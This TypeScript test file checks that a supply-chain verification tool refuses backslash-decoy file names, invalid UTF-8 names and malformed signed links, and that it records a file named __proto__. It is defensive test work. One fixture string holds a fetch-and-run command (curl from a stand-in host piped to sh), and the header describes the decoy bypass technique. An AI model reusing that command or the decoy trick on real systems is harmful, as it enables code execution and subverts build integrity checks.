/**
 * The backslash decoy: a delivery ships a modified `src/hello.c` beside a file literally named
 * `src\hello.c` holding the reviewed bytes. Recording used to map `\` to `/` (as the reference does), so the
 * decoy's digest was recorded for `src/hello.c` and verification passed while the command used the modified
 * file. Names that could stand for another file are now refused where they are recorded and where they are read.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { saveKeyPair } from '../../src/crypto/key-files.js';
import { collectArtifacts } from '../../src/intoto/record/collect.js';
import { artifactNameProblem } from '../../src/intoto/models/artifact-name.js';
import { formatReport, verify } from '../../src/intoto/verify/index.js';
import { isEvidentError } from '../../src/errors.js';
import { runCli } from '../helpers/cli.js';
import { artifacts, inspection, layout, link, linkName, put, sign, step, tempDir, testKey } from '../intoto/verify/fixtures.js';

const REVIEWED = 'int main(void) { return 0; }\n';
const MODIFIED = 'int main(void) { return system("curl evil | sh"); }\n';

const owner = () => testKey(0);
const dev = () => testKey(1);

/** The code step (the developer's sign-off of src/) and an inspection that uses src/hello.c. */
function decoyLayout() {
  const code = step({ name: 'code', keys: [dev()], products: ['CREATE src/*', 'DISALLOW *'] });
  const compile = inspection(
    'compile',
    ['sh', '-c', 'cat src/hello.c > built'],
    ['MATCH src/* WITH PRODUCTS FROM code', 'ALLOW *'],
    ['ALLOW *'],
  );
  return layout([code], [dev()], { inspect: [compile] });
}

test('the backslash decoy: the inspection refuses to record the delivery, so verification fails', async () => {
  const tmp = await tempDir();
  try {
    const work = join(tmp.dir, 'delivery');
    await put(work, 'src/hello.c', MODIFIED);
    await put(work, 'src\\hello.c', REVIEWED);
    const signOff = sign(link('code', { products: artifacts({ 'src/hello.c': REVIEWED }) }), [dev()]);
    const report = await verify({
      layout: sign(decoyLayout(), [owner()]),
      layoutKeys: [owner().publicKey],
      links: { [linkName('code', dev())]: signOff },
      workDir: work,
    });
    const text = formatReport(report);
    assert.equal(report.ok, false, text);
    assert.match(text, /✗ compile: .*src\\hello\.c.*contains a backslash/);
  } finally {
    await tmp.cleanup();
  }
});

test('recording: a name with a backslash is refused, naming the file; excluding it records the rest', async () => {
  const tmp = await tempDir();
  try {
    await put(tmp.dir, 'src/hello.c', MODIFIED);
    await put(tmp.dir, 'src\\hello.c', REVIEWED);
    await assert.rejects(collectArtifacts(['.'], { basePath: tmp.dir }), (e) => {
      return isEvidentError(e) && e.code === 'ARTIFACT_NAME' && e.file === 'src\\hello.c' && /backslash/.test(e.message);
    });
    // the same name reached as a path given on the command line
    await assert.rejects(collectArtifacts(['src\\hello.c'], { basePath: tmp.dir }), (e) => isEvidentError(e) && e.code === 'ARTIFACT_NAME');
    const rest = await collectArtifacts(['.'], { basePath: tmp.dir, excludePatterns: ['src\\\\hello.c'] });
    assert.deepEqual(Object.keys(rest), ['src/hello.c']);
  } finally {
    await tmp.cleanup();
  }
});

test('evident run -m . over a decoy exits 2 with one line and writes no link', async () => {
  const tmp = await tempDir();
  try {
    await saveKeyPair(dev(), join(tmp.dir, 'dev'));
    const work = join(tmp.dir, 'build');
    await put(work, 'src/hello.c', MODIFIED);
    await put(work, 'src\\hello.c', REVIEWED);
    const r = await runCli(['run', '-n', 'build', '-k', join(tmp.dir, 'dev'), '-m', '.', '-d', tmp.dir, '--', 'true'], { cwd: work });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /^evident: src\\hello\.c: cannot be recorded: .*backslash.*\n$/);
    assert.deepEqual(
      readdirSync(tmp.dir).filter((f) => f.endsWith('.link')),
      [],
      'no link written',
    );
  } finally {
    await tmp.cleanup();
  }
});

test('recording: names that are not valid UTF-8 are refused (two of them would read alike)', async () => {
  const tmp = await tempDir();
  try {
    mkdirSync(join(tmp.dir, 'd'));
    writeFileSync(Buffer.concat([Buffer.from(join(tmp.dir, 'd') + '/'), Buffer.from([0xff])]), 'one');
    writeFileSync(Buffer.concat([Buffer.from(join(tmp.dir, 'd') + '/'), Buffer.from([0xfe])]), 'two');
    await assert.rejects(
      collectArtifacts(['d'], { basePath: tmp.dir }),
      (e) => isEvidentError(e) && e.code === 'ARTIFACT_NAME' && /UTF-8/.test(e.message),
    );
  } finally {
    await tmp.cleanup();
  }
});

test('verification: a signed link that lists a backslash name is refused as malformed, packed or not', async () => {
  const cases: [string, RegExp][] = [
    ['src\\hello.c', /products\["src\\\\hello.c"\]: .*contains a backslash/],
    ['caf\u00e9\\x', /contains a backslash/],
    ['', /products\[""\]: an artifact name cannot be empty/], // a plain list: the packed path
  ];
  for (const [file, problem] of cases) {
    const tmp = await tempDir();
    try {
      const code = step({ name: 'code', keys: [dev()], products: ['ALLOW *'] });
      const signOff = sign(link('code', { products: artifacts({ [file]: REVIEWED, 'src/hello.c': REVIEWED }) }), [dev()]);
      await put(tmp.dir, linkName('code', dev()), signOff);
      const report = await verify({ layout: sign(layout([code], [dev()]), [owner()]), layoutKeys: [owner().publicKey], linkDir: tmp.dir });
      const text = formatReport(report);
      assert.equal(report.ok, false, text);
      assert.match(text, problem);
    } finally {
      await tmp.cleanup();
    }
  }
});

test('the rule itself', () => {
  assert.equal(artifactNameProblem('src/hello.c'), undefined);
  assert.equal(artifactNameProblem('/abs/path with spaces/ü.txt'), undefined);
  assert.match(artifactNameProblem('')!, /empty/);
  assert.match(artifactNameProblem('a\\b')!, /backslash/);
  assert.match(artifactNameProblem('a\0b')!, /NUL/);
  assert.match(artifactNameProblem('a\uFFFDb')!, /UTF-8/);
});

test('a file named __proto__ is recorded like any other, so DISALLOW * sees it (it used to vanish from the link)', async () => {
  const tmp = await tempDir();
  try {
    await saveKeyPair(dev(), join(tmp.dir, 'dev'));
    const work = join(tmp.dir, 'build');
    await put(work, 'hello.c', REVIEWED);
    await put(work, '__proto__', 'a payload the build script reads with cat *');
    const recorded = await collectArtifacts(['.'], { basePath: work });
    assert.deepEqual(Object.keys(recorded), ['__proto__', 'hello.c']);
    assert.equal(Object.getPrototypeOf(recorded), Object.prototype);

    for (const format of ['link', 'dsse']) {
      const out = join(tmp.dir, format);
      mkdirSync(out);
      const r = await runCli(['run', '-n', 'build', '-k', join(tmp.dir, 'dev'), '-m', '.', '-d', out, '--format', format, '--', 'true'], {
        cwd: work,
      });
      assert.equal(r.code, 0, r.stderr);
      const build = step({ name: 'build', keys: [dev()], materials: ['ALLOW hello.c', 'DISALLOW *'] });
      const report = await verify({ layout: sign(layout([build], [dev()]), [owner()]), layoutKeys: [owner().publicKey], linkDir: out });
      const text = formatReport(report);
      assert.equal(report.ok, false, `${format}: ${text}`);
      assert.match(text, /DISALLOW \*.*__proto__/, format);
    }
  } finally {
    await tmp.cleanup();
  }
});
